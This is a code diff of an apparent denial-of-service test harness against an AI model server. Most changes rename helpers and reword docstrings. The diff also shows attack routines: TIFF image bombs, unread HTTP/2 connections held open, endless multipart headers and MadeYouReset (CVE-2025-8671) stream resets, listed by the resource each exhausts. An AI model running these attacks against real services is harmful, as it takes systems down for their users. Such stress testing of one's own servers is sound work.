@@ -16,7 +16,7 @@ import image_bombs
 from target import Target
 
 MIB = 1 << 20
-QUESTION = "how many circles are in the picture?"
+QUESTION = "how many circles are in the image?"
 NUMBERS = itertools.count()
 
 
@@ -38,7 +38,7 @@ def ask_request(images, questions=(QUESTION,), generation=b"", by_url=False):
 
 
 def ask(target, images, leave_after_s=None, **options):
-    """Asks about images on a connection of its own. Waits for the end of the call, or leaves."""
+    """Asks about images on a separate connection. Waits for the end of the call, or leaves."""
     connection = target.http2(target.grpc)
     try:
         stream = connection.ask(ask_request(images, **options))
@@ -59,7 +59,7 @@ def mark():
 
 
 def tiff_strips(target):
-    """Two narrow TIFFs at a time. Each of their 1,000 strips is a JPEG that declares 16384 x 16384."""
+    """Narrow TIFFs. Each of their 1,000 strips is a JPEG that declares 16384 x 16384 pixels."""
     target.repeat(
         lambda: ask(target, [image_bombs.tiff_with_large_strips(1000, mark=mark())] * 2, leave_after_s=1),
         threads=1,
@@ -109,7 +109,7 @@ def unread_files(target):
         connection.close_windows()
         for _ in range(100):
             connection.request("GET", "/docs/swagger-ui-bundle.js", authority=target.http)
-        keep_open(target, connection)
+        hold(target, connection)
 
     target.repeat(read_nothing, threads=20)
 
@@ -126,12 +126,12 @@ def unread_vectors(target):
             if target.is_over:
                 return
             connection.request("POST", "/v1/embed", texts, headers, authority=target.http)
-        keep_open(target, connection)
+        hold(target, connection)
 
     target.repeat(read_nothing, threads=2)
 
 
-def keep_open(target, connection):
+def hold(target, connection):
     """Answers the server's pings until the attack or the connection is over."""
     connection.socket.settimeout(1)
     while not target.is_over and not connection.closed:
@@ -210,7 +210,7 @@ def endless_part_header(target):
     target.repeat(send, threads=4)
 
 
-def own_resets(target):
+def protocol_error_resets(target):
     """Frames that make the server reset its own streams (MadeYouReset, CVE-2025-8671)."""
 
     def frame(kind, flags, stream, payload):
@@ -342,7 +342,7 @@ ATTACKS = [
     Attack(bodies_without_key, "request memory", needs_keys=True),
     Attack(long_json_key, "request memory", needs_keys=True),
     Attack(endless_part_header, "processor time", needs_keys=True),
-    Attack(own_resets, "processor time", needs_keys=True),
+    Attack(protocol_error_resets, "processor time", needs_keys=True),
     Attack(idle_connections, "connections", needs_keys=True),
     Attack(half_requests_for_metrics, "files", needs_keys=True, max_files=1024),
     Attack(full_queue, "question queue"),
